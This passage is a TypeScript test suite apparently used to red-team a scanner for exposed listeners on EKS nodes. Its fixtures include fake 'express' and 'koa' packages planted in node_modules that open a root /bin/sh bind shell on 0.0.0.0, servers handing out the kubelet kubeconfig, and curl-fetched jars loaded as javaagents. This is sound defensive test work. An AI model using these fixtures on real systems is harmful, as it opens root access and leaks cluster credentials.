// Red-team round 77 (fresh eyes) on EKS NODE security, area nsec: listeners of programs root runs on nodes, hardest on
// round 77's fixes (a node program read in full judged by its own bind: javascript.ts nodeProgramReadInFull; computed
// process/globalThis/loadEnvFile; NODE_PATH; env(1) wrappers in ExecStart; javac class-path runs).
// Probed: listen calls the reader may not see (server["listen"], listen?.(), listen.call, spread arguments), listen
// option objects (duplicate keys, spread, getters), packages written into the node_modules chain / $HOME/.node_modules,
// EnvironmentFile= continuation lines and comment escapes, C escapes and %i specifiers in Environment=, the service.d
// type drop-in, sh -c / env -S in ExecStart, Bun's automatic .env files, Deno --env-file, Bun.serve/Deno.serve option
// objects; java with CLASSPATH (exported or unit), @argfiles, unit JAVA_TOOL_OPTIONS, argv index a[1], -D properties,
// System.getenv, -classpath, a repeated -cp, --class-path wildcards; secure twins.
// Misses (10 insecure accepted, 1 secure refused):
// - insecure, JS-OBJECT-LAST-WINS (3): listen({host: lo, host: "0.0.0.0"}), {"host": lo, host: any}, {host: lo,
//   ...wide}: javascript.ts jsProperty takes the first `host` item.
// - insecure, NODE-MODULES-WRITTEN (3): express/koa written into /opt/ops/node_modules, /opt/node_modules,
//   /node_modules: NODE_KNOWN_MODULES trusted by name wherever node resolves it.
// - insecure, BUN-DOTENV (2): bun loads .env/.env.local from its working directory (HOST=0.0.0.0).
// - insecure, JAVA-CLASSPATH-ENV (2): CLASSPATH (exported or unit Environment=) naming a downloaded jar for `java Main`.
// - secure, UNIT-SPECIFIER-INSTANCE: template ops@.service Environment=HOST=%i, enabled as ops@127.0.0.1.
// Held: 26 of 36 insecure refused (computed/optional/call listen spellings, spread arguments, getters, options mutated
// by assignment or Object.assign, $HOME/.node_modules, EnvironmentFile continuations, C escapes and %i in Environment=,
// service.d drop-ins, sh -c / env -S, Deno --env-file, Bun.serve/Deno.serve keys, @argfiles, unit JAVA_TOOL_OPTIONS,
// a[1], -D, getenv, -classpath, repeated -cp, --class-path wildcards); 8 of 9 secure clean (EnvironmentFile
// continuation/comment escapes, quoted Environment= value, UnsetEnvironment=, a drop-in reset, a literal after a spread,
// CLASSPATH of the sources' directory, a unit running javac's output on loopback).
// Fixed in round 77 (fix77-nsec): all 11 misses (javascript.ts jsProperty last-wins, nodePackageShadow, bunDotEnv;
// commandServers.ts readServers CLASSPATH; systemd.ts unitProgramEnvironment/templateInstances), with neighbours
// dev-nsec37..46-rt77n and dev-nsec10s..17s-rt77n.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;
const script = devNodeScript;
const file = heredocFile;

/** A Node.js reader of / on 8081 at `host` (a JavaScript expression). */
const nodeExpr = (host: string) => [
    'const http = require("http");',
    'const fs = require("fs");',
    `http.createServer((q, s) => fs.createReadStream(q.url).pipe(s)).listen(8081, ${host});`,
];
/** A Node.js reader of / whose server is `server`, then the `listen` line(s) given. */
const nodeServer = (listen: string[]) => [
    'const http = require("http");',
    'const fs = require("fs");',
    "const server = http.createServer((q, s) => fs.createReadStream(q.url).pipe(s));",
    ...listen,
];
const HOST_OR_LO = 'process.env.HOST || "127.0.0.1"';
const nodeUnit = (extra: string[] = []) =>
    systemdUnit("ops", [...extra, "Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]);
/** A Java ServerSocket on getByName(a[0]) (default loopback) answering with the kubelet's kubeconfig. */
const JAVA_ARGV_SERVER = [
    "import java.net.*;",
    "public class Main {",
    "    public static void main(String[] a) throws Exception {",
    '        String host = a.length > 0 ? a[0] : "127.0.0.1";',
    "        ServerSocket s = new ServerSocket(8081, 50, InetAddress.getByName(host));",
    '        while (true) { Socket c = s.accept(); c.getOutputStream().write(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("/var/lib/kubelet/kubeconfig"))); c.close(); }',
    "    }",
    "}",
];
/** JAVA_ARGV_SERVER answering "ok" (no file read). */
const JAVA_OK_SERVER = JAVA_ARGV_SERVER.map(l =>
    l.includes("kubeconfig") ? l.replace(/java\.nio.*\)\)\)/, '"ok".getBytes())') : l,
);
const javaApp = (name: string, main: string[], run: string, pre: string[] = []) =>
    script(name, [...pre, ...file("/opt/ops/Main.java", main), `cd /opt/ops && ${run}`]);
const JAVA_MAIN_CALLS_SRV = [
    "public class Main {",
    "    public static void main(String[] a) throws Exception { Srv.start(); }",
    "}",
];
const DOWNLOAD_AGENT = "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/a.jar https://artifacts.example.com/a.jar";

const insecure: NodeCase[] = [
    // ---- Node.js programs read in full: listen calls the reader may not see ----
    // ECMAScript "Property Accessors": server["listen"](8081) calls the same method; Node.js "server.listen([port[,
    // host]])": "If host is omitted, the server will accept connections on the unspecified IPv6 address (::) ... or the
    // unspecified IPv4 address (0.0.0.0)".
    dev(
        'unit runs node a.js; server["listen"](8081) (every address, file server)',
        script("dev-nsec1-rt77n", [...file("/opt/ops/a.js", nodeServer(['server["listen"](8081);'])), ...nodeUnit()]),
    ),
    // ECMAScript "Optional Chaining": server.listen?.(8081) calls listen when it is defined.
    dev(
        "unit runs node a.js; server.listen?.(8081) (every address)",
        script("dev-nsec2-rt77n", [...file("/opt/ops/a.js", nodeServer(["server.listen?.(8081);"])), ...nodeUnit()]),
    ),
    // ECMAScript "Function.prototype.call": server.listen.call(server, 8081, "0.0.0.0").
    dev(
        'unit runs node a.js; server.listen.call(server, 8081, "0.0.0.0")',
        script("dev-nsec3-rt77n", [
            ...file("/opt/ops/a.js", nodeServer(['server.listen.call(server, 8081, "0.0.0.0");'])),
            ...nodeUnit(),
        ]),
    ),
    // ECMAScript "Object Initializer" (duplicate property names allowed since ES2015; the last definition wins).
    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure). ECMAScript 2015+ "Object Initializer" / PropertyDefinitionEvaluation: a
    // duplicate property name is allowed (also in strict mode) and the LAST definition wins, so host is "0.0.0.0": a
    // kubeconfig-reading file server on every address. The pack accepts: javascript.ts jsProperty returns the FIRST
    // `host:` item. Fix: jsProperty takes the last matching item, and any spread (`...x`), getter/setter, computed key
    // (`[k]:`) or shorthand after it makes the property unknown (fail closed).
    dev(
        'unit runs node a.js; server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" })',
        script("dev-nsec4-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
            ),
            ...nodeUnit(),
        ]),
    ),
    // ECMAScript spread properties (CopyDataProperties): a later spread overrides host.
    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure), spread: ECMAScript "Object Initializer" spread properties
    // (CopyDataProperties) define wide's host after the literal, so the server binds 0.0.0.0. javascript.ts jsProperty
    // skips the `...wide` item and returns the literal "127.0.0.1". Fix: as dev-nsec4-rt77n (a spread after the key
    // makes the property unknown; a literal after every spread is fine: dev-nsec6s-rt77n).
    dev(
        "unit runs node a.js; listen({ host: 127.0.0.1, port: 8081, ...wide }) with wide.host 0.0.0.0",
        script("dev-nsec5-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer([
                    'const wide = { host: "0.0.0.0" };',
                    'server.listen({ host: "127.0.0.1", port: 8081, ...wide });',
                ]),
            ),
            ...nodeUnit(),
        ]),
    ),
    // Node.js "Modules: CommonJS", "Loading from node_modules folders": require("express") from /opt/ops/a.js looks in
    // /opt/ops/node_modules, then /opt/node_modules: user data wrote "express" there (a root shell on 0.0.0.0).
    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure). Node.js "Modules: CommonJS", "Loading from node_modules folders": for
    // /opt/ops/a.js, require("express") looks in /opt/ops/node_modules, then /opt/node_modules, ... /node_modules, before
    // the global folders: the "express" node loads is the file user data wrote, a root shell on 0.0.0.0:8082. The pack
    // accepts: javascript.ts nodeProgramListeners trusts a package by NAME (NODE_KNOWN_MODULES) and only round 76's
    // NODE_PATH check looks at where it resolves. Fix: resolve every package name through the node_modules chain of the
    // requiring file's directory (and NODE_PATH, $HOME/.node_modules, $HOME/.node_libraries, $PREFIX/lib/node); a
    // package directory user data wrote (or changed) there is read as local code (or unread), not trusted by name.
    dev(
        "/opt/node_modules/express/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires express",
        script("dev-nsec6-rt77n", [
            ...file("/opt/node_modules/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // Node.js "Loading from the global folders": "Additionally, Node.js will search in the following list of
    // GLOBAL_FOLDERS: 1: $HOME/.node_modules ..." (HOME=/root given by the unit).
    dev(
        "/root/.node_modules/express/index.js written; unit Environment=HOME=/root; a.js requires express",
        script("dev-nsec7-rt77n", [
            ...file("/root/.node_modules/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(["Environment=HOME=/root"]),
        ]),
    ),
    // ---- unit environment read as systemd reads it ----
    // systemd.exec(5) EnvironmentFile=: "A line ending with a backslash will be continued to the following one, with
    // the newline itself discarded": NOTE=\ swallows the next line, so HOST stays 0.0.0.0.
    dev(
        "EnvironmentFile: HOST=0.0.0.0, NOTE=\\ continued over HOST=127.0.0.1 (systemd: HOST=0.0.0.0)",
        script("dev-nsec8-rt77n", [
            ...file("/opt/ops/env", ["HOST=0.0.0.0", "NOTE=\\", "HOST=127.0.0.1"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["EnvironmentFile=/opt/ops/env"]),
        ]),
    ),
    // systemd env-file.c (parse_env_file_internal): a backslash in a comment escapes the newline (COMMENT_ESCAPE), the
    // next line is comment too: HOST=127.0.0.1 is never assigned.
    dev(
        "EnvironmentFile: HOST=0.0.0.0, '# loopback below \\' then HOST=127.0.0.1 (a comment in systemd)",
        script("dev-nsec9-rt77n", [
            ...file("/opt/ops/env", ["HOST=0.0.0.0", "# loopback below \\", "HOST=127.0.0.1"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["EnvironmentFile=/opt/ops/env"]),
        ]),
    ),
    // systemd.exec(5) Environment=: C escapes in the assignment (extract_first_word EXTRACT_CUNESCAPE): \x30 is "0".
    dev(
        "unit Environment=HOST=\\x30.0.0.0 (0.0.0.0 after C unescaping); HOST || 127.0.0.1",
        script("dev-nsec10-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(["Environment=HOST=\\x30.0.0.0"]),
        ]),
    ),
    // systemd.unit(5): "a unit-type drop-in directory" (service.d/) applies to every service.
    dev(
        "/etc/systemd/system/service.d/10-env.conf Environment=HOST=0.0.0.0; node a.js (HOST || 127.0.0.1)",
        script("dev-nsec11-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...nodeUnit(),
            ...file("/etc/systemd/system/service.d/10-env.conf", ["[Service]", "Environment=HOST=0.0.0.0"]),
            "systemctl daemon-reload && systemctl restart ops",
        ]),
    ),
    // systemd.unit(5) specifiers: %i is the instance name; ops@0.0.0.0.service gives HOST=0.0.0.0.
    dev(
        "template ops@.service Environment=HOST=%i; systemctl enable --now ops@0.0.0.0",
        script("dev-nsec12-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...file("/etc/systemd/system/ops@.service", [
                "[Service]",
                "Environment=HOST=%i",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl daemon-reload && systemctl enable --now ops@0.0.0.0.service",
        ]),
    ),
    // sh(1) -c: the shell ExecStart runs sets HOST for node.
    dev(
        "unit ExecStart=/bin/sh -c 'HOST=0.0.0.0 exec /usr/bin/node /opt/ops/a.js'",
        script("dev-nsec13-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["ExecStart=/bin/sh -c 'HOST=0.0.0.0 exec /usr/bin/node /opt/ops/a.js'"]),
        ]),
    ),
    // env(1) "-S, --split-string=S: process and split S into separate arguments".
    dev(
        'unit ExecStart=/usr/bin/env -S "HOST=0.0.0.0 /usr/bin/node /opt/ops/a.js"',
        script("dev-nsec14-rt77n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ['ExecStart=/usr/bin/env -S "HOST=0.0.0.0 /usr/bin/node /opt/ops/a.js"']),
        ]),
    ),
    // Bun docs "Environment variables": "Bun reads the following files automatically (listed in order of increasing
    // precedence): .env, .env.production/.env.development/.env.test, .env.local" from the working directory.
    // Was a MISS (fixed in round 77): BUN-DOTENV (insecure). Bun docs "Environment variables" / "Set environment variables": "Bun reads the
    // following files automatically (listed in order of increasing precedence): .env, .env.production/.env.development/
    // .env.test (depending on NODE_ENV), .env.local" (from the working directory; --no-env-file disables it): HOST=0.0.0.0
    // from /opt/ops/.env reaches `process.env.HOST || "127.0.0.1"`, a kubeconfig-reading file server on every address.
    // The pack accepts: the unit's environment is taken as bun's whole environment (javascript.ts nodeProgramListeners
    // `known` from view.programEnvironment; the nodeProgramReadInFull comment notes Bun's .env loading but this path
    // does not). Fix: for bun (without --no-env-file), add the variables of the working directory's .env,
    // .env.{production,development,test}, .env.local, .env.*.local files user data wrote (any such file with unknown
    // content, or an unknown working directory: the environment is unknown), as for process.loadEnvFile.
    dev(
        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env HOST=0.0.0.0; listen(HOST || 127.0.0.1)",
        script("dev-nsec15-rt77n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
        ]),
    ),
    // Deno docs "deno run": "--env-file[=<FILE>...] Load environment variables from local file ... [default: .env]".
    dev(
        "unit WorkingDirectory=/opt/ops: deno run --allow-net --allow-read --env-file a.ts; .env HOST=0.0.0.0",
        script("dev-nsec16-rt77n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file(
                "/opt/ops/a.ts",
                nodeExpr(HOST_OR_LO).map(l => l.replace(/require\("(\w+)"\)/, '(await import("node:$1"))')),
            ),
            ...systemdUnit("ops", [
                "WorkingDirectory=/opt/ops",
                "ExecStart=/usr/local/bin/deno run --allow-net --allow-read --env-file /opt/ops/a.ts",
            ]),
        ]),
    ),
    // ---- javac then java ----
    // JDK "java" / "javac": "-cp ... If -classpath and -cp aren't used and CLASSPATH isn't set, the user class path
    // consists of the current directory": with CLASSPATH exported, Srv comes from the downloaded jar.
    // Was a MISS (fixed in round 77): JAVA-CLASSPATH-ENV (insecure). JDK java(1) "-cp/-classpath": "If -classpath and -cp aren't used and
    // CLASSPATH isn't set, the user class path consists of the current directory" (riptutorial "Different ways to
    // specify the classpath": CLASSPATH is used when no -cp is given; -cp takes precedence): `java Main` loads Srv from
    // the downloaded /opt/lib/dep.jar (code nobody read, run as root). The pack accepts: commandServers.ts (the java run's
    // `classPath` is read from -cp/-classpath/--class-path/-jar words only, never from CLASSPATH), while the same jar
    // given as -classpath is refused (dev-nsec23-rt77n). Fix: with no class path option, take the class path from the
    // run's CLASSPATH (exported, unit Environment=, env wrappers; unknown environment: unknown class path) and judge its
    // entries like -cp's (a jar or directory not javac's output: unread code).
    dev(
        "export CLASSPATH=/opt/lib/dep.jar:.; javac Main.java && java Main (Srv in the downloaded jar)",
        javaApp(
            "dev-nsec17-rt77n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none Main.java && nohup java Main >/var/log/ops.log 2>&1 &",
            [
                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
                "export CLASSPATH=/opt/lib/dep.jar:.",
            ],
        ),
    ),
    // java(1) "java Command-Line Argument Files": "@argfiles ... one or more argument files containing options":
    // the file names a downloaded agent.
    dev(
        "java @/opt/ops/jvm.args -cp . Main 127.0.0.1 (args: -javaagent:downloaded jar)",
        javaApp(
            "dev-nsec18-rt77n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java @/opt/ops/jvm.args -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            [DOWNLOAD_AGENT, ...file("/opt/ops/jvm.args", ["-javaagent:/opt/lib/a.jar"])],
        ),
    ),
    // JVMTI "JAVA_TOOL_OPTIONS" from a unit's Environment= (systemd.exec(5)) for a java run of javac's output.
    dev(
        "javac in user data; unit Environment=JAVA_TOOL_OPTIONS=-javaagent:downloaded; ExecStart=java -cp /opt/ops Main 127.0.0.1",
        script("dev-nsec19-rt77n", [
            DOWNLOAD_AGENT,
            ...file("/opt/ops/Main.java", JAVA_OK_SERVER),
            "cd /opt/ops && javac Main.java",
            ...systemdUnit("ops", [
                "Environment=JAVA_TOOL_OPTIONS=-javaagent:/opt/lib/a.jar",
                "ExecStart=/usr/bin/java -cp /opt/ops Main 127.0.0.1",
            ]),
        ]),
    ),
    // JLS 10.4 array access: a[1] is the second argument, 0.0.0.0.
    dev(
        "javac Main.java && java -cp . Main 127.0.0.1 0.0.0.0 (host = a[1], kubeconfig)",
        javaApp(
            "dev-nsec20-rt77n",
            JAVA_ARGV_SERVER.map(l => l.replace("a.length > 0 ? a[0]", "a.length > 1 ? a[1]")),
            "javac Main.java && nohup java -cp . Main 127.0.0.1 0.0.0.0 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // java(1) "-Dproperty=value"; java.lang.System.getProperty(key, def).
    dev(
        "javac Main.java && java -Dhost=0.0.0.0 -cp . Main (host = System.getProperty(host, 127.0.0.1))",
        javaApp(
            "dev-nsec21-rt77n",
            JAVA_ARGV_SERVER.map(l =>
                l.replace('a.length > 0 ? a[0] : "127.0.0.1"', 'System.getProperty("host", "127.0.0.1")'),
            ),
            "javac Main.java && nohup java -Dhost=0.0.0.0 -cp . Main >/var/log/ops.log 2>&1 &",
        ),
    ),
    // java.lang.System.getenv: HOST exported by the script.
    dev(
        "export HOST=0.0.0.0; javac Main.java && java -cp . Main (host = getenv HOST, default loopback)",
        javaApp(
            "dev-nsec22-rt77n",
            JAVA_ARGV_SERVER.map(l =>
                l.replace(
                    'a.length > 0 ? a[0] : "127.0.0.1"',
                    'System.getenv("HOST") != null ? System.getenv("HOST") : "127.0.0.1"',
                ),
            ),
            "javac Main.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
            ["export HOST=0.0.0.0"],
        ),
    ),
    // java(1) "-classpath" (the long spelling) with the downloaded jar.
    dev(
        "javac -classpath /opt/lib/dep.jar:. Main.java && java -classpath /opt/lib/dep.jar:. Main",
        javaApp(
            "dev-nsec23-rt77n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none -classpath /opt/lib/dep.jar:. Main.java && nohup java -classpath /opt/lib/dep.jar:. Main >/var/log/ops.log 2>&1 &",
            ["mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar"],
        ),
    ),

    // ---- round 77 (this file) neighbours of the misses above ----
    // Node.js "Loading from node_modules folders": /opt/ops/node_modules first (the program's own directory).
    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure), the program's own node_modules (the first directory node looks in). As
    // dev-nsec6-rt77n.
    dev(
        "/opt/ops/node_modules/express/index.js written (0.0.0.0 root shell); a.js requires express",
        script("dev-nsec24-rt77n", [
            ...file("/opt/ops/node_modules/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // Node.js "Loading from node_modules folders": the last of the chain is /node_modules.
    // Was a MISS (fixed in round 77): NODE-MODULES-WRITTEN (insecure), /node_modules (the last of the chain) with koa. As dev-nsec6-rt77n.
    dev(
        "/node_modules/koa/index.js written (0.0.0.0 root shell); /opt/ops/a.js requires koa",
        script("dev-nsec25-rt77n", [
            ...file("/node_modules/koa/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = class { use() {} listen() {} };",
            ]),
            ...file("/opt/ops/a.js", [
                'const Koa = require("koa");',
                "const app = new Koa();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // Quoted duplicate key ("host" then host): ECMAScript PropertyDefinitionEvaluation, the last wins.
    // Was a MISS (fixed in round 77): JS-OBJECT-LAST-WINS (insecure), quoted then bare key: as dev-nsec4-rt77n ("host" and host are one property
    // name). Fix: as dev-nsec4-rt77n.
    dev(
        'listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" })',
        script("dev-nsec26-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer(['server.listen({ "host": "127.0.0.1", port: 8081, host: "0.0.0.0" });']),
            ),
            ...nodeUnit(),
        ]),
    ),
    // An accessor property: the getter's value is the host.
    dev(
        'listen({ port: 8081, get host() { return "0.0.0.0"; } })',
        script("dev-nsec27-rt77n", [
            ...file("/opt/ops/a.js", nodeServer(['server.listen({ port: 8081, get host() { return "0.0.0.0"; } });'])),
            ...nodeUnit(),
        ]),
    ),
    // ECMAScript spread arguments: listen(...[8081, "0.0.0.0"]).
    dev(
        'listen(...[8081, "0.0.0.0"])',
        script("dev-nsec28-rt77n", [
            ...file("/opt/ops/a.js", nodeServer(['server.listen(...[8081, "0.0.0.0"]);'])),
            ...nodeUnit(),
        ]),
    ),
    // Bun docs "Bun.serve" hostname (default "0.0.0.0"): a duplicate hostname key, the last wins.
    dev(
        'bun a.js: Bun.serve({ hostname: "127.0.0.1", port: 8081, hostname: "0.0.0.0", fetch: kubeconfig })',
        script("dev-nsec29-rt77n", [
            ...file("/opt/ops/a.js", [
                'Bun.serve({ hostname: "127.0.0.1", port: 8081, hostname: "0.0.0.0", fetch() { return new Response(Bun.file("/var/lib/kubelet/kubeconfig")); } });',
            ]),
            ...systemdUnit("ops", ["ExecStart=/usr/local/bin/bun /opt/ops/a.js"]),
        ]),
    ),
    // Deno docs "Deno.serve" (hostname default "0.0.0.0"): a later spread overrides hostname.
    dev(
        'deno run: Deno.serve({ hostname: "127.0.0.1", port: 8081, ...wide }, kubeconfig)',
        script("dev-nsec30-rt77n", [
            ...file("/opt/ops/a.ts", [
                'const wide = { hostname: "0.0.0.0" };',
                'Deno.serve({ hostname: "127.0.0.1", port: 8081, ...wide }, () => new Response(Deno.readFileSync("/var/lib/kubelet/kubeconfig")));',
            ]),
            ...systemdUnit("ops", ["ExecStart=/usr/local/bin/deno run --allow-net --allow-read /opt/ops/a.ts"]),
        ]),
    ),
    // Bun docs "Environment variables": .env.local is read too (highest precedence).
    // Was a MISS (fixed in round 77): BUN-DOTENV (insecure), .env.local and `bun run FILE`. As dev-nsec15-rt77n.
    dev(
        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env.local HOST=0.0.0.0",
        script("dev-nsec31-rt77n", [
            ...file("/opt/ops/.env.local", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["WorkingDirectory=/opt/ops", "ExecStart=/usr/local/bin/bun run /opt/ops/a.js"]),
        ]),
    ),
    // JDK "java": CLASSPATH from the unit's Environment= (systemd.exec(5)), no -cp.
    // Was a MISS (fixed in round 77): JAVA-CLASSPATH-ENV (insecure), CLASSPATH from the unit's Environment= (systemd.exec(5)) for
    // ExecStart=/usr/bin/java Main. As dev-nsec17-rt77n.
    dev(
        "unit Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops ExecStart=/usr/bin/java Main (Srv in downloaded jar)",
        script("dev-nsec32-rt77n", [
            "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar",
            ...file("/opt/ops/Main.java", JAVA_MAIN_CALLS_SRV),
            "cd /opt/ops && javac -proc:none -cp /opt/lib/dep.jar:. Main.java",
            ...systemdUnit("ops", ["Environment=CLASSPATH=/opt/lib/dep.jar:/opt/ops", "ExecStart=/usr/bin/java Main"]),
        ]),
    ),
    // java(1): the class path option given twice, the last one is used.
    dev(
        "javac -cp /opt/lib/dep.jar:. Main.java && java -cp . -cp /opt/lib/dep.jar:. Main",
        javaApp(
            "dev-nsec33-rt77n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none -cp /opt/lib/dep.jar:. Main.java && nohup java -cp . -cp /opt/lib/dep.jar:. Main >/var/log/ops.log 2>&1 &",
            ["mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar"],
        ),
    ),
    // java(1) "--class-path" and a wildcard entry ("/opt/lib/*": every jar in the directory).
    dev(
        "javac -cp '/opt/lib/*:.' Main.java && java --class-path '/opt/lib/*:.' Main",
        javaApp(
            "dev-nsec34-rt77n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none -cp '/opt/lib/*:.' Main.java && nohup java --class-path '/opt/lib/*:.' Main >/var/log/ops.log 2>&1 &",
            ["mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar"],
        ),
    ),
    // An options object assigned once, then mutated (ECMAScript property assignment): host is 0.0.0.0 at the listen.
    dev(
        'const opts = { host: "127.0.0.1", port: 8081 }; opts.host = "0.0.0.0"; server.listen(opts)',
        script("dev-nsec35-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer([
                    'const opts = { host: "127.0.0.1", port: 8081 };',
                    'opts.host = "0.0.0.0";',
                    "server.listen(opts);",
                ]),
            ),
            ...nodeUnit(),
        ]),
    ),
    // ECMAScript Object.assign(target, ...sources): copies host onto the options object.
    dev(
        'const opts = { host: "127.0.0.1", port: 8081 }; Object.assign(opts, { host: "0.0.0.0" }); server.listen(opts)',
        script("dev-nsec36-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer([
                    'const opts = { host: "127.0.0.1", port: 8081 };',
                    'Object.assign(opts, { host: "0.0.0.0" });',
                    "server.listen(opts);",
                ]),
            ),
            ...nodeUnit(),
        ]),
    ),
    // ---- round 77 fixes: neighbours (fix77-nsec) ----
    // JS-OBJECT-LAST-WINS: a computed key after the literal (ECMAScript ComputedPropertyName: ["host"] is host).
    dev(
        'listen({ host: "127.0.0.1", port: 8081, ["host"]: "0.0.0.0" })',
        script("dev-nsec37-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, ["host"]: "0.0.0.0" });']),
            ),
            ...nodeUnit(),
        ]),
    ),
    // JS-OBJECT-LAST-WINS: a getter of the same name after the literal (ECMAScript MethodDefinition get: the accessor
    // replaces the data property).
    dev(
        'listen({ host: "127.0.0.1", port: 8081, get host() { return "0.0.0.0"; } })',
        script("dev-nsec38-rt77n", [
            ...file(
                "/opt/ops/a.js",
                nodeServer(['server.listen({ host: "127.0.0.1", port: 8081, get host() { return "0.0.0.0"; } });']),
            ),
            ...nodeUnit(),
        ]),
    ),
    // NODE-MODULES-WRITTEN: a package tree copied in (content the pack cannot know) on the chain.
    dev(
        "cp -r /tmp/pkg /opt/node_modules/express (unknown content); /opt/ops/a.js requires express",
        script("dev-nsec39-rt77n", [
            "mkdir -p /tmp/pkg /opt/node_modules && curl -fsSL -o /tmp/pkg/index.js https://artifacts.example.com/e.js",
            "cp -r /tmp/pkg /opt/node_modules/express",
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // NODE-MODULES-WRITTEN: $PREFIX/lib/node, the last global folder (Node.js "Loading from the global folders").
    dev(
        "/usr/local/lib/node/express/index.js written (0.0.0.0 root shell); a.js requires express",
        script("dev-nsec40-rt77n", [
            ...file("/usr/local/lib/node/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...nodeUnit(),
        ]),
    ),
    // BUN-DOTENV: .env.production (Bun loads it when NODE_ENV=production; the pack reads every NODE_ENV's file).
    dev(
        "unit Environment=NODE_ENV=production WorkingDirectory=/opt/ops runs bun a.js; .env.production HOST=0.0.0.0",
        script("dev-nsec41-rt77n", [
            ...file("/opt/ops/.env.production", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=NODE_ENV=production",
                "WorkingDirectory=/opt/ops",
                "ExecStart=/usr/local/bin/bun /opt/ops/a.js",
            ]),
        ]),
    ),
    // BUN-DOTENV: a downloaded .env (content the pack cannot know): the environment is unknown.
    dev(
        "unit WorkingDirectory=/opt/ops runs bun a.js; /opt/ops/.env downloaded",
        script("dev-nsec42-rt77n", [
